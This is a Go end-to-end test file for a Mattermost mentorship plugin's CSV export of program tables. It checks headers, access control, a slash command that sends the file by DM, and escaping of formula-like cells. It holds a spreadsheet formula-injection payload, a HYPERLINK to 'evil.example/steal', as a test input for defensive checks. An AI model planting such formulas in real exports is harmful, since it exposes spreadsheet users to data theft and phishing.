package e2e

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"io"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/mattermost/mattermost/server/public/model"

	"github.com/mentorship-mattermost/mentorship/e2e/harness"
)

// The header rows the README documents; the files are read with
// encoding/csv, an independent parser of RFC 4180.
var exportHeaders = map[string][]string{
	"members": {"user_id", "username", "full_name", "role", "status", "capacity", "mentor_load", "mentee_load",
		"department", "time_zone", "skills_offered", "skills_wanted", "interests", "languages", "goals", "joined_at", "updated_at"},
	"matches": {"match_id", "status", "origin", "score", "mentor_id", "mentor_username", "mentee_id", "mentee_username",
		"created_at", "activated_at", "ended_at", "end_reason", "channel_id",
		"sessions_planned", "sessions_held", "attended_marks", "missed_marks", "first_session_at", "last_session_at", "next_session_at",
		"goals", "goals_done", "goals_dropped", "goals_at_risk", "ratings", "average_rating", "last_rating",
		"mentor_last_post_at", "mentee_last_post_at", "nudged_at", "updated_at"},
	"sessions": {"match_id", "session_id", "occurrence", "start", "end", "state", "title", "where", "location", "recurring",
		"organizer_id", "organizer_username", "mentor_id", "mentor_username", "mentor_attendance", "mentee_id", "mentee_username", "mentee_attendance"},
	"goals": {"match_id", "goal_id", "title", "description", "measure", "due", "status", "progress",
		"milestones", "milestones_done", "mentee_id", "mentee_username", "mentor_id", "mentor_username",
		"created_by", "created_by_username", "created_at", "updated_by", "updated_by_username", "updated_at", "progress_at", "last_note"},
	"checkins": {"match_id", "round", "due", "side", "user_id", "username", "answer", "note", "answered_at"},
	"feedback": {"kind", "match_id", "session_id", "occurrence", "author_id", "author_username", "side", "rating", "text", "shared", "at"},
}

const exitFormula = `=HYPERLINK("http://evil.example/steal","click me")`

// csvRows is a downloaded table: its header and its rows by column name.
type csvRows struct {
	header []string
	rows   []map[string]string
}

func parseCSV(t *testing.T, what string, data []byte) csvRows {
	t.Helper()
	records, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	if err != nil || len(records) == 0 {
		t.Fatalf("%s does not parse as CSV (%v):\n%s", what, err, data)
	}
	out := csvRows{header: records[0]}
	for _, rec := range records[1:] {
		row := map[string]string{}
		for i, col := range records[0] {
			row[col] = rec[i]
		}
		out.rows = append(out.rows, row)
	}
	return out
}

// where keeps the rows whose column has the value.
func (c csvRows) where(col, value string) []map[string]string {
	var out []map[string]string
	for _, r := range c.rows {
		if r[col] == value {
			out = append(out, r)
		}
	}
	return out
}

// download GETs a table as name and returns the status, the headers and the body.
func download(t *testing.T, name, programID, table string) (int, http.Header, []byte) {
	t.Helper()
	url := node1().URL + "/plugins/" + harness.PluginID + "/api/v1/programs/" + programID + "/export/" + table + ".csv"
	req, err := http.NewRequest(http.MethodGet, url, nil)
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Authorization", "Bearer "+user(name).Token)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatalf("GET %s as %s: %v", url, name, err)
	}
	defer resp.Body.Close()
	data, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatalf("GET %s as %s: %v", url, name, err)
	}
	return resp.StatusCode, resp.Header, data
}

// exportWorld is a program with a live match (a meeting attended and rated,
// a goal, a struggling check-in) and an ended one whose exit survey is a
// formula.
type exportWorld struct {
	pr      pair
	ended   matchView
	leaver  string
	session sessionView
	goals   bool // the goals route answered
}

func TestExportTablesAsCSV(t *testing.T) {
	x := exportWorld{pr: livePair(t, "exp", "Europe/Madrid", "America/New_York"), leaver: "exp-leaver"}
	pr := x.pr
	matchPeople(t, x.leaver)
	joinAs(t, node1(), x.leaver, pr.program.ID, "mentee", 0, "")

	// The meeting starts at the next minute boundary at least 10 s ahead;
	// the rest is set up while it comes.
	start := minuteAhead(10 * time.Second)
	x.session = schedule(t, node1(), pr.mentee, map[string]any{"match_id": pr.match.ID, "start": start.Format(time.RFC3339),
		"duration_minutes": 5, "title": "-1 on-boarding"})

	x.ended = activePair(t, pr.program.ID, pr.coord, x.leaver, pr.mentor)
	wantStatus(t, "end the match", call(t, x.leaver, http.MethodPost, "/matches/"+x.ended.ID+"/end",
		map[string]any{"outcome": "completed", "reason": "@channel all done"}, nil), http.StatusOK)
	var e apiError
	if s := call(t, x.leaver, http.MethodPost, "/matches/"+x.ended.ID+"/survey",
		map[string]any{"rating": 4, "text": exitFormula, "shared": true}, &e); s != http.StatusOK {
		t.Fatalf("exit survey: status %d %+v", s, e)
	}

	x.goals = call(t, pr.mentee, http.MethodPost, "/matches/"+pr.match.ID+"/goals",
		map[string]any{"title": "+SUM(A1) speak at the meetup", "measure": "a talk given"}, &e) == http.StatusCreated
	if !x.goals {
		t.Logf("no goal: POST /matches/{id}/goals answered %+v", e)
	}
	answerCheckIn(t, pr)

	if wait := time.Until(start.Add(time.Second)); wait > 0 {
		time.Sleep(wait)
	}
	occurrence := start.Format(time.RFC3339)
	for _, name := range []string{pr.mentee, pr.mentor} {
		body := map[string]any{"occurrence": occurrence, "status": "attended"}
		wantStatus(t, name+" attended", call(t, name, http.MethodPost, "/sessions/"+x.session.ID+"/attendance", body, &e), http.StatusOK)
	}
	body := map[string]any{"occurrence": occurrence, "rating": 5, "text": "@mentor thanks!"}
	wantStatus(t, "session feedback", call(t, pr.mentee, http.MethodPost, "/sessions/"+x.session.ID+"/feedback", body, &e), http.StatusOK)

	tables := map[string]csvRows{}
	for table, header := range exportHeaders {
		status, h, data := download(t, pr.coord, pr.program.ID, table)
		if status != http.StatusOK {
			t.Fatalf("%s: status %d %s", table, status, data)
		}
		wantContains(t, table+" Content-Type", h.Get("Content-Type"), "text/csv; charset=utf-8")
		wantContains(t, table+" Content-Disposition", h.Get("Content-Disposition"), "attachment", "filename="+pr.program.Slug+"-"+table+"-", ".csv")
		got := parseCSV(t, table, data)
		if !slices.Equal(got.header, header) {
			t.Fatalf("%s header:\n got %v\nwant %v", table, got.header, header)
		}
		noFormulaCells(t, table, got)
		tables[table] = got
	}
	x.checkTables(t, tables)

	// Not for the pair: a member of the program is refused, with JSON.
	status, h, data := download(t, pr.mentee, pr.program.ID, "members")
	if status != http.StatusForbidden || !strings.HasPrefix(h.Get("Content-Type"), "application/json") {
		t.Fatalf("a member's export: status %d %s %s", status, h.Get("Content-Type"), data)
	}
	status, _, data = download(t, pr.coord, pr.program.ID, "salaries")
	if status != http.StatusBadRequest || !strings.Contains(string(data), "members, matches, sessions, goals, checkins, feedback") {
		t.Fatalf("an unknown table: status %d %s", status, data)
	}

	x.checkCommand(t)
}

// answerCheckIn starts a check-in round as the coordinator and answers it
// "struggling" as the mentee, once the round exists.
func answerCheckIn(t *testing.T, pr pair) {
	t.Helper()
	var e apiError
	if s := call(t, pr.coord, http.MethodPost, "/matches/"+pr.match.ID+"/checkins/round", nil, &e); s != http.StatusOK && s != http.StatusCreated && s != http.StatusAccepted {
		t.Fatalf("start a check-in round: status %d %+v", s, e)
	}
	pollUntil(t, "the check-in answered", 30*time.Second, func() (bool, string) {
		s := call(t, pr.mentee, http.MethodPost, "/matches/"+pr.match.ID+"/checkins",
			map[string]any{"answer": "struggling", "note": "-too many meetings"}, &e)
		return s == http.StatusOK || s == http.StatusCreated, fmt.Sprintf("%d %+v", s, e)
	})
}

// noFormulaCells checks that no cell starts with a character a spreadsheet
// takes for a formula.
func noFormulaCells(t *testing.T, table string, c csvRows) {
	t.Helper()
	for _, row := range c.rows {
		for col, cell := range row {
			if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") {
				t.Fatalf("%s.%s starts a formula: %q", table, col, cell)
			}
		}
	}
}

func (x *exportWorld) checkTables(t *testing.T, tables map[string]csvRows) {
	t.Helper()
	pr := x.pr
	one := func(table, col, value string) map[string]string {
		t.Helper()
		rows := tables[table].where(col, value)
		if len(rows) != 1 {
			t.Fatalf("%s: %d rows with %s=%s, want 1: %v", table, len(rows), col, value, tables[table].rows)
		}
		return rows[0]
	}
	want := func(what, got, value string) {
		t.Helper()
		if got != value {
			t.Fatalf("%s = %q, want %q", what, got, value)
		}
	}

	mentor := one("members", "user_id", user(pr.mentor).Id)
	want("mentor's username", mentor["username"], pr.mentor)
	want("mentor's role", mentor["role"], "mentor")
	if _, err := time.Parse(time.RFC3339, mentor["joined_at"]); err != nil || !strings.HasSuffix(mentor["joined_at"], "Z") {
		t.Fatalf("joined_at %q is not RFC 3339 UTC", mentor["joined_at"])
	}
	if n := len(tables["members"].rows); n != 3 {
		t.Fatalf("%d members, want 3", n)
	}

	live := one("matches", "match_id", pr.match.ID)
	want("live match status", live["status"], "active")
	want("live mentee", live["mentee_username"], pr.mentee)
	want("live mentor", live["mentor_username"], pr.mentor)
	ended := one("matches", "match_id", x.ended.ID)
	want("ended status", ended["status"], "completed")
	want("end reason", ended["end_reason"], "'@channel all done")

	meeting := one("sessions", "session_id", x.session.ID)
	want("meeting state", meeting["state"], "held")
	want("mentee attendance", meeting["mentee_attendance"], "attended")
	want("mentor attendance", meeting["mentor_attendance"], "attended")
	want("meeting title", meeting["title"], "'-1 on-boarding")
	want("meeting start", meeting["start"], x.session.Start.UTC().Format(time.RFC3339))

	if x.goals {
		goal := one("goals", "match_id", pr.match.ID)
		want("goal title", goal["title"], "'+SUM(A1) speak at the meetup")
		want("goal author", goal["created_by_username"], pr.mentee)
	}

	answered := one("checkins", "user_id", user(pr.mentee).Id)
	want("check-in answer", answered["answer"], "struggling")
	want("check-in note", answered["note"], "'-too many meetings")
	want("mentor's side", one("checkins", "user_id", user(pr.mentor).Id)["side"], "mentor")

	exit := one("feedback", "kind", "exit")
	want("exit survey text", exit["text"], "'"+exitFormula)
	want("exit survey author", exit["author_username"], x.leaver)
	want("exit survey shared", exit["shared"], "true")
	rated := one("feedback", "kind", "session")
	want("session feedback", rated["text"], "'@mentor thanks!")
	want("session feedback shared", rated["shared"], "false")
}

// checkCommand has the coordinator ask for the members with /mentor export
// and reads the file the bot DMs back through Mattermost's files API.
func (x *exportWorld) checkCommand(t *testing.T) {
	t.Helper()
	pr := x.pr
	reply := command(t, pr.coord, "/mentor export "+pr.program.Slug+" members")
	fileName := pr.program.Slug + "-members-"
	wantContains(t, "the export command's reply", reply, fileName, "3 rows")
	var post *model.Post
	pollUntil(t, "the bot's DM with the file", 20*time.Second, func() (bool, string) {
		for _, p := range dmPosts(t, pr.coord) {
			if len(p.FileIds) > 0 && strings.Contains(p.Message, "**members**") {
				post = p
				return true, ""
			}
		}
		return false, "no DM with a file yet"
	})
	infos := attachedFiles(t, pr.coord, post)
	if len(infos) != 1 || !strings.HasPrefix(infos[0].Name, fileName) || !strings.HasSuffix(infos[0].Name, ".csv") {
		t.Fatalf("the DM's files: %+v", infos)
	}
	data, _, err := env.Client(user(pr.coord), node1()).GetFile(ctx(), infos[0].Id)
	if err != nil {
		t.Fatalf("download %s: %v", infos[0].Name, err)
	}
	got := parseCSV(t, infos[0].Name, data)
	if !slices.Equal(got.header, exportHeaders["members"]) || len(got.rows) != 3 || len(got.where("username", x.leaver)) != 1 {
		t.Fatalf("the DMed members file:\n%s", data)
	}
	if reply := command(t, pr.mentee, "/mentor export "+pr.program.Slug+" members"); strings.Contains(reply, fileName) {
		t.Fatalf("a member got an export: %s", reply)
	}
}
